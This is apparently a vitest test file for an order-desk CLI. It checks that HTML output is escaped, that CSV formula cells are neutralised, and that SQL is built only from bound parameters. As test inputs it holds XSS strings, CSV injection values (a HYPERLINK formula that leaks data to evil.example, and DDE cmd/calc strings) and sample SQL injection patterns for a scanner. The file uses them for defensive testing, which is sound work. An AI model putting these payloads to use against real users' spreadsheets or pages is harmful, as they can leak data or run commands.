import { spawnSync } from 'node:child_process'
import { readdirSync, readFileSync, statSync } from 'node:fs'
import { join, relative } from 'node:path'
import { fileURLToPath } from 'node:url'
import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { BIN, tempDesk, type Desk } from '../helpers/cli.js'

/**
 * Output safety (issue 10): user-supplied strings print as text — literally on the terminal,
 * escaped in HTML forms and reports, formula-neutralised in CSV — and SQL is only ever
 * parameterised.
 */

/** Whether the built CLI has this command group yet (others build print and report in parallel). */
function hasCommand(word: string): boolean {
  const r = spawnSync('node', [BIN, word, '--help'], { encoding: 'utf8' })
  return r.status === 0 && r.stdout.startsWith(`Usage: orderdesk ${word} `)
}
const HAS_PRINT = hasCommand('print')
const HAS_REPORT = hasCommand('report')

const XSS = '<script>alert(1)</script>'
const CONTACT = '"><img src=x onerror=alert(2)>'
const ADDRESS = "O'Brien & <b>Sons</b>"
const NOTE = '<i>rush</i> & "fragile"'
const RAW = [XSS, '<img src=x', '<b>Sons</b>', '<i>rush</i>']

/** Customers whose names a spreadsheet would run as formulas. */
const FORMULAS: Record<string, string> = {
  FORM: '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  PLUS: '+1+cmd|\' /C calc\'!A0',
  MINUS: '-2+3+cmd|\' /C calc\'!A0',
  AT: '@SUM(1+1)*cmd|\' /C calc\'!A0',
}

let desk: Desk
let n: string
const numbers: Record<string, string> = {}

beforeAll(async () => {
  desk = await tempDesk()
  await desk.json(['customer', 'add', '--code', 'XSS', '--name', XSS, '--contact', CONTACT, '--address', ADDRESS])
  n = (await desk.json(['inquiry', 'new', '--customer', 'XSS', '--item', 'NW-011=2', '--note', NOTE])).order.number
  await desk.json(['stock', 'check', n])
  await desk.json(['contract', 'sign', n, '--payment-method', 'transfer', '--payment-due', '+7', '--deposit', '30'])
  if (HAS_REPORT) {
    for (const [code, name] of Object.entries(FORMULAS)) {
      await desk.json(['customer', 'add', '--code', code, '--name', name])
      const m = (await desk.json(['inquiry', 'new', '--customer', code, '--item', 'NW-001=1'])).order.number
      await desk.json(['stock', 'check', m])
      await desk.json(['contract', 'sign', m, '--payment-method', 'transfer', '--payment-due', '+7', '--deposit', '30'])
      numbers[code] = m
    }
  }
}, 120_000)
afterAll(() => desk.cleanup())

function expectEscaped(html: string): void {
  for (const raw of RAW) expect(html, `raw ${raw} in HTML`).not.toContain(raw)
  expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;')
}

describe('user-supplied strings print as text', { timeout: 120_000 }, () => {
  it('`order show` shows the customer name literally (text and JSON)', async () => {
    const r = await desk.run(['order', 'show', n])
    expect(r.exitCode).toBe(0)
    expect(r.stdout).toContain(`Customer  XSS  ${XSS}`)
    expect(r.stdout).toContain(CONTACT)
    const j = await desk.json(['order', 'show', n])
    expect(j).toMatchObject({ customer: 'XSS', customerName: XSS, note: NOTE })
  })

  it.skipIf(!HAS_PRINT)('HTML forms escape every user-supplied string (skipped while `print` is not built)', async () => {
    let printed = 0
    for (const form of ['inquiry', 'quotation', 'confirmation', 'contract']) {
      const r = await desk.run(['print', form, n, '--format', 'html'])
      if (form === 'inquiry' || form === 'contract') expect(r.exitCode, `${form}: ${r.stderr}`).toBe(0)
      if (r.exitCode !== 0) continue
      printed++
      expect(r.stdout, form).toMatch(/^<!doctype html>/i)
      expectEscaped(r.stdout)
    }
    expect(printed).toBeGreaterThanOrEqual(2)
    const inquiry = (await desk.run(['print', 'inquiry', n, '--format', 'html'])).stdout
    expect(inquiry).toContain('&lt;i&gt;rush&lt;/i&gt; &amp;')
    // the text form shows the strings as they are
    const text = await desk.run(['print', 'inquiry', n])
    expect(text.stdout).toContain(XSS)
  })

  it.skipIf(!HAS_REPORT)('the HTML report escapes them; the CSV report neutralises formula cells (skipped while `report` is not built)', async () => {
    const html = await desk.run(['report', 'status', '--format', 'html'])
    expect(html.exitCode, html.stderr).toBe(0)
    expectEscaped(html.stdout)

    const csv = await desk.run(['report', 'status', '--format', 'csv'])
    expect(csv.exitCode, csv.stderr).toBe(0)
    const rows = parse(csv.stdout, { relax_column_count: true }) as string[][]
    const cells = rows.flat()
    for (const [code, name] of Object.entries(FORMULAS)) {
      const hits = cells.filter((c) => c.includes(name.slice(1)))
      expect(hits.length, `${code}'s name in the CSV`).toBeGreaterThan(0)
      for (const c of hits) expect(c, `${code}: ${c}`).not.toMatch(/^[=+\-@\t\r]/)
    }
    // no cell at all starts a formula (numbers such as -5.00 excepted)
    for (const c of cells) if (/^[=+\-@\t\r]/.test(c)) expect(c).toMatch(/^-?\d+(\.\d+)?$/)
    expect(cells).toContain(XSS) // CSV is data, not markup: the name is kept as it is
  })
})

/* ------------------------------------------------------------------------------------------ */

const ROOT = fileURLToPath(new URL('../../', import.meta.url))

function sources(dir: string): string[] {
  return readdirSync(dir).flatMap((f) => {
    const p = join(dir, f)
    return statSync(p).isDirectory() ? sources(p) : p.endsWith('.ts') ? [p] : []
  })
}

/**
 * Places that build SQL text from code, each reviewed: what is put into the text and why it
 * cannot come from a user. Anything else that builds SQL text fails the test.
 */
const REVIEWED: { file: string; line: RegExp; why: string }[] = [
  { file: 'src/store/migrations/0001-initial.ts', line: /return sql\.raw\(expr\)/, why: 'fixed CHECK constraints written in the migration' },
  { file: 'src/store/migrations/0015-production-signoff.ts', line: /await sql\.raw\(fresh\)\.execute\(db\)/, why: "SQLite's own stored CREATE TABLE of production_orders with one NOT NULL dropped: the desk's schema, no values" },
  { file: 'src/store/migrations/0015-production-signoff.ts', line: /await sql\.raw\(i\.sql\)\.execute\(db\)/, why: "the table's indexes re-created from SQLite's own stored CREATE INDEX texts" },
  { file: 'src/store/queries/payments.ts', line: /const t = sql\.table\(alias\)/, why: "a table alias the calling query names in code (signedPaymentAmount('p')), quoted as an identifier" },
  { file: 'src/store/queries/needs-action.ts', line: /sql\.join\(xs\.map\(\(x\) => sql\.lit\(x\)\)\)/, why: 'status names from the domain constants, as literals so that the partial index applies' },
  { file: 'src/store/connection.ts', line: /busy_timeout = \$\{Math\.max\(0, Math\.floor\(/, why: 'a number, clamped and floored' },
  { file: 'src/store/bulk-load.ts', line: /(wal_autocheckpoint|cache_size) = \$\{(-?BULK_(CHECKPOINT_PAGES|CACHE_KIB)|Math\.trunc\((checkpoint|cache)\))\}/, why: "numbers: the module's constants, or the value SQLite itself reported, truncated" },
  { file: 'src/store/import-writes.ts', line: /`insert into \$\{ident\(table\)\} \(\$\{columns\.map\(ident\)/, why: 'table and column names from the code, quoted by ident(); the values are bound' },
  { file: 'src/store/import-writes.ts', line: /`select \$\{columns\.map\(\(_, i\) => `value->>\$\{i\}`\)/, why: 'column positions (numbers) into json_each of the bound JSON parameter' },
  { file: 'src/store/import-writes.ts', line: / returning \$\{returning\.map\(ident\)/, why: 'column names from the code, quoted by ident()' },
  { file: 'src/store/import-writes.ts', line: /CompiledQuery\.raw\(sqlText, /, why: 'the text above; the rows are bound as one JSON parameter' },
  { file: 'src/store/queries/report-figures.ts', line: /sql\.lit\((i|bounds\.length)\)/, why: 'loop indexes: numbers' },
  { file: 'src/store/queries/report-figures.ts', line: /\? sql\.lit\(b\) : b\)/, why: 'PostgreSQL only: bucket bounds are dates the report computed from a validated date (YYYY-MM-DD), never input text' },
  { file: 'src/store/audit-seal.ts', line: /sql\.(table|ref)\(t\.(name|key)\)|sql\.id\(`audit_pending_\$\{t\.name\}`\)|sql\.lit\(t\.key\)|sql\.raw\(stmt\)/, why: 'table and key-column names from SEALED_TABLES in the code (trigger DDL quoted by ident(), the rest by kysely); the keys are bound' },
  { file: 'src/store/audit-seal.ts', line: /`insert into audit_pending \(tbl, key, old\) values \('\$\{t\.name\}', \$\{row\}\.\$\{ident\(t\.key\)\}, \$\{row === 'old' \? image : 'null'\}\);`/, why: "trigger body: a table name from SEALED_TABLES, the trigger's own new/old row, its key column quoted by ident(), and the old row's image from the desk's own column names (quoted)" },
  { file: 'src/store/table-sql.ts', line: /sql\.table\(table\)/, why: 'table names from the code or the copied desk\'s own schema, quoted by kysely' },
  { file: 'src/store/table-sql.ts', line: /sqlite\.prepare\(`select (count\(\*\) as n|\$\{columns\.map\(ident\))/, why: 'table and column names from the copied desk\'s own schema, quoted by ident()' },
  { file: 'src/store/queries/report-actions.ts', line: /\.orderBy\(sql\.raw\(`\$\{p\}(rush|since|k|ref)`\)/, why: "sort columns named in the code; p is a fixed alias prefix ('' by default), never input" },
]

interface Finding {
  file: string
  line: number
  text: string
  rule: string
}

/** SQL text built by hand: `sql.raw`, non-literal `sql.lit/ref/id/table`, CompiledQuery.raw, interpolated driver calls or SQL-looking untagged templates. */
function findDynamicSql(file: string, src: string): Finding[] {
  const out: Finding[] = []
  const lines = src.split('\n')
  const at = (index: number) => src.slice(0, index).split('\n').length
  const add = (index: number, rule: string) => {
    const line = at(index)
    out.push({ file, line, text: lines[line - 1]!.trim(), rule })
  }
  const literal = String.raw`\s*(?:'[^'\\]*'|"[^"\\]*"|-?\d+(?:\.\d+)?)\s*\)`
  for (const m of src.matchAll(/\bsql\.raw\(/g)) add(m.index!, 'sql.raw')
  for (const m of src.matchAll(new RegExp(String.raw`\bsql\.(lit|ref|id|table)(?:<[^>]*>)?\((?!${literal})`, 'g'))) add(m.index!, `sql.${m[1]} of a non-literal`)
  for (const m of src.matchAll(/\bCompiledQuery\.raw\(/g)) add(m.index!, 'CompiledQuery.raw')
  for (const m of src.matchAll(/\.(prepare|exec|pragma)\(\s*(`[^`]*\$\{|['"][^'"]*['"]\s*\+)/g)) add(m.index!, `driver .${m[1]} with built text`)
  const SQLISH = /\bselect\b[\s\S]*\bfrom\b|\binsert\s+into\b|\bupdate\s+"?\w+"?\s+set\b|\bdelete\s+from\b|\b(create|alter|drop)\s+(table|index)\b|\bpragma\b|\bwhere\b[\s\S]*[=<>]/i
  // SQL text starts with a keyword (a message such as `cannot select ${x} from ...` does not)
  const STATEMENT = /^\s*(select|insert|update|delete|with|pragma|create|alter|drop|where|and|or|order by|group by|join|left join|values|set|from)\s/
  for (const m of src.matchAll(/(\b[\w.]+(?:<[^`>]*>)?)?`((?:[^`\\]|\\.)*)`/g)) {
    const tag = m[1] ?? ''
    const body = m[2]!
    if (!body.includes('${')) continue
    if (/^sql(<.*>)?$/.test(tag)) continue // kysely's tag: every ${} is a bound parameter
    const staticText = body.replace(/\$\{[^}]*\}/g, ' ')
    if (STATEMENT.test(staticText) && SQLISH.test(staticText)) add(m.index!, 'untagged template that builds SQL')
  }
  return out
}

describe('only parameterised SQL', () => {
  it('src/store and src/services build no SQL text from values (reviewed exceptions only)', () => {
    const files = [...sources(join(ROOT, 'src/store')), ...sources(join(ROOT, 'src/services'))]
    expect(files.length).toBeGreaterThan(30)
    const findings = files.flatMap((f) => findDynamicSql(relative(ROOT, f), readFileSync(f, 'utf8')))
    const unreviewed = findings.filter((f) => !REVIEWED.some((r) => f.file === r.file && r.line.test(f.text)))
    expect(unreviewed, unreviewed.map((f) => `${f.file}:${f.line} ${f.rule}: ${f.text}`).join('\n')).toEqual([])
    // the reviewed ones are really there (so this list does not rot into allowing anything)
    const seen = REVIEWED.filter((r) => findings.some((f) => f.file === r.file && r.line.test(f.text)))
    expect(seen.map((r) => r.file).length).toBeGreaterThanOrEqual(2)
  })

  it('the scanner catches what it should', () => {
    const bad = [
      'db.selectFrom("orders").where(sql.raw(`number = \'${n}\'`))',
      'sqlite.prepare(`select * from orders where number = \'${n}\'`).all()',
      "sqlite.exec('delete from orders where id = ' + id)",
      'const q = `select * from orders where customer = \'${code}\'`',
      'await sql.ref(column).execute(db)',
      'await db.executeQuery(CompiledQuery.raw(text, []))',
    ]
    for (const b of bad) expect(findDynamicSql('x.ts', b), b).not.toEqual([])
    const fine = [
      "await sql`select name from kysely_migration where name = ${name}`.execute(db)",
      "sql<number>`sum(${sql.ref('orders.total')})`",
      "sql.lit(1)",
      "throw new Error(`cannot select ${x} from the list`)",
      "db.prepare('select count(*) from orders').get()",
    ]
    for (const f of fine) expect(findDynamicSql('x.ts', f), f).toEqual([])
  })
})
